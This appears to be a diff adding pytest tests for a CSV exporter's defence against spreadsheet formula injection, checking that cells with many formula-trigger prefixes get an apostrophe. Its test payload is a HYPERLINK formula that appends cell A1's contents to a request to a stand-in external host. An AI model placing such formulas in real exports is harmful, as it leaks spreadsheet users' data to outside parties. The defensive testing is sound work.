@@ -3,13 +3,14 @@
 from __future__ import annotations
 
 import builtins
+import csv
 import io
 from typing import TYPE_CHECKING, Any
 
 import pytest
 
 from reportedly.errors import ExportError
-from reportedly.export.tables import write_csv, write_parquet
+from reportedly.export.tables import defused, write_csv, write_parquet
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -25,6 +26,48 @@ def test_nested_values_become_text_in_csv() -> None:
         "id,n,source,content,reports,why",
         'a,,It,It ... It,x y,"[{""k"": 1}]"',
     ]
+
+
+@pytest.mark.parametrize(
+    "begins",
+    [
+        "=",
+        "+",
+        "-",
+        "@",
+        "\t=",
+        "\t",
+        "\r",
+        "\n",
+        " =",
+        "\u00a0=",
+        "\u200b=",
+        "\ufeff=",
+        "\x00=",
+        "＝",
+        "＋",
+        "－",
+        "＠",
+        "= ",
+    ],
+)
+def test_no_cell_is_a_formula_unless_asked_for(begins: str) -> None:
+    text = f'{begins}HYPERLINK("https://there.example/?"&A1,"open")'
+    for formulas, front in ((False, "'"), (True, "")):
+        out = io.StringIO(newline="")
+        write_csv(["n", "words", "all"], [{"n": -3.5, "words": text, "all": [text, "b"]}], out, formulas=formulas)
+        assert list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1] == [
+            "-3.5",
+            front + text,
+            f"{front}{text} b",
+        ]
+
+
+@pytest.mark.parametrize(
+    "value", ["a=b", "a", "", "12", "'=1", -1, 0.5, None, True, "2025-04-28", '{"a": "=1"}', "“-”"]
+)
+def test_other_cells_stay(value: object) -> None:
+    assert defused(value) == value
 
 
 def test_where_there_are_no_rows_there_is_a_header(tmp_path: Path) -> None:
